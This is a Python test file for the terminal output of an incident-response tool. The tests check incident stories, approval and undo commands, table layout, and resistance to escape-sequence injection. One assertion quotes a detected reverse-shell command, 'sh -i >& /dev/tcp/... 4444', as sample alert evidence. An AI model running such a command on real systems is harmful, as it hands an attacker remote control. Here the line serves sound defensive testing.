"""What a person reads: what is said, never how it is laid out."""

import io
from datetime import timedelta

import pytest

from signals import words
from signals.decisions import OnExpiry, Tier
from signals.incidents import Incident, IncidentState
from signals.receipts import ActionState
from signals.threats import Severity
from tests.workers.cli import sample
from workers.cli import explaining, rows, story
from workers.cli.screen import Screen
from workers.cli.words import COLOURS, relative, span


def told(incident: Incident) -> str:
    out = io.StringIO()
    screen = Screen(out)
    for line in story.headline(incident.summary, sample.NOW):
        screen.say(line.text)
    screen.sections(story.tell(incident, sample.NOW))
    return out.getvalue()


def test_a_contained_incident_says_what_happened_what_was_done_and_how_to_take_it_back() -> None:
    text = told(sample.incident())
    for said in (
        "CRITICAL  Shell redirected to the network in web-0",
        "opened 03:12:00 UTC, 4 min ago",
        "tier 3 (isolate)",
        "sh -i >& /dev/tcp/203.0.113.7/4444",
        "T1059), 3 times",
        "but: the clock of the node is off",
        "pod/shop/web-0  runs-on  node/node-1",
        "could not be found out: events: the API server forbids it",
        "create networkpolicies/shop/fb-1",
        "flow unknown: nothing enforces policies here",
        "connections that are open already stay open",
        f"firebreak undo {sample.ID}",
    ):
        assert said in text


def test_a_question_is_told_with_its_deadline_and_both_answers() -> None:
    waits = sample.waiting()
    text = told(sample.incident(IncidentState.AWAITING_APPROVAL, ActionState.STAGED, waits))
    assert "As oncall or lead, until 03:27:00 UTC (in 11 min). Silence means no." in text
    assert f"firebreak approve {sample.ID}" in text
    assert f"firebreak reject {sample.ID} --reason" in text
    assert "f" * 64 in text
    assert "undo" not in text


def test_a_question_of_a_group_is_listed_and_told_under_its_group() -> None:
    waits = sample.waiting().model_copy(update={"group": "breaker/shop/2026-05-04T03"})
    text = told(sample.incident(IncidentState.AWAITING_APPROVAL, ActionState.STAGED, waits))
    assert f"firebreak approve --group {waits.group}" in text
    (row,) = rows.incidents([sample.summary(waits=waits)], sample.NOW)
    assert str(row[7]).startswith(waits.group)


def test_a_question_for_the_lead_names_the_lead_in_the_command() -> None:
    lines = [line.text for line in story.waits(sample.summary(waits=sample.waiting(("lead",))), sample.NOW)]
    assert f"firebreak approve {sample.ID} --person lead" in lines


def test_a_drifted_undo_offers_force() -> None:
    text = told(sample.incident(action=ActionState.DRIFTED))
    assert f"firebreak undo {sample.ID} --force" in text


def test_a_closed_incident_asks_nothing() -> None:
    text = told(sample.incident(IncidentState.CLOSED, ActionState.REVERTED))
    assert "Nothing. It is over." in text
    assert "connections that are open already" not in text


def test_what_was_not_done_stays_open() -> None:
    assert "isolate pod/shop/web-0 was not done" in told(sample.incident(action=ActionState.REFUSED))


@pytest.mark.parametrize("show", ["story", "table"])
def test_text_from_alerts_cannot_steer_the_terminal(show: str) -> None:
    out = io.StringIO()
    if show == "story":
        out.write(told(sample.incident(title=sample.EVIL)))
    else:
        screen = Screen(out)
        screen.table(rows.INCIDENTS, rows.incidents([sample.summary(title=sample.EVIL)], sample.NOW))
    assert "\x1b" not in out.getvalue()
    assert "\u202e" not in out.getvalue()
    assert "[red]not markup[/red]" in out.getvalue()


def test_in_a_pipe_nothing_of_the_list_is_cut() -> None:
    out = io.StringIO()
    long = "word " * 40
    Screen(out).table(rows.INCIDENTS, rows.incidents([sample.summary(title=long)], sample.NOW))
    assert long.strip() in out.getvalue()
    assert sample.ID in out.getvalue()


def test_in_a_narrow_terminal_the_id_stays_whole() -> None:
    out = io.StringIO()
    Screen(out, width=80).table(rows.INCIDENTS, rows.incidents([sample.summary()], sample.NOW), rows.SPARE)
    heading, row = out.getvalue().splitlines()
    assert "MODE" not in heading
    assert row.startswith(f"{sample.ID}  contained  3 isolate")
    assert "…" in row


def test_the_judgement_is_explained_term_by_term() -> None:
    lines = [line.text for line in explaining.terms(sample.decision())]
    assert lines == ["0.87  detector: = 0.87", "a shell that speaks to the network"]
    assert explaining.verdict(sample.decision()) == (
        "Confidence 0.870 is tier 3 (isolate): isolate_pod, by itself."
    )


def test_the_judgement_that_decided_is_explained_not_the_one_that_only_confirmed() -> None:
    decided = sample.decision()
    confirmed = decided.model_copy(update={"revision": 2, "actions": ()})
    assert explaining.decisive((decided, confirmed)) == (decided,)
    assert explaining.decisive((confirmed,)) == (confirmed,)
    assert explaining.verdict(confirmed) == "Confidence 0.870 is tier 3 (isolate): nothing is asked for."


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(40, "40 s"), (720, "12 min"), (11100, "3 h 5 min"), (187200, "2 d 4 h"), (-5, "0 s")],
)
def test_spans_are_told_in_their_largest_sensible_unit(seconds: int, text: str) -> None:
    assert span(seconds) == text


def test_the_future_and_the_past_read_differently() -> None:
    assert relative(sample.NOW + timedelta(minutes=15), sample.NOW) == "in 15 min"
    assert relative(sample.NOW - timedelta(minutes=4), sample.NOW) == "4 min ago"


def test_every_value_of_the_closed_lists_has_words() -> None:
    assert set(words.STATES) == set(IncidentState)
    assert set(words.ACTIONS) == set(ActionState)
    assert set(words.EXPIRIES) == set(OnExpiry)
    assert set(COLOURS) == {severity.value for severity in Severity}
    assert set(words.TIERS) == {tier.value for tier in Tier}
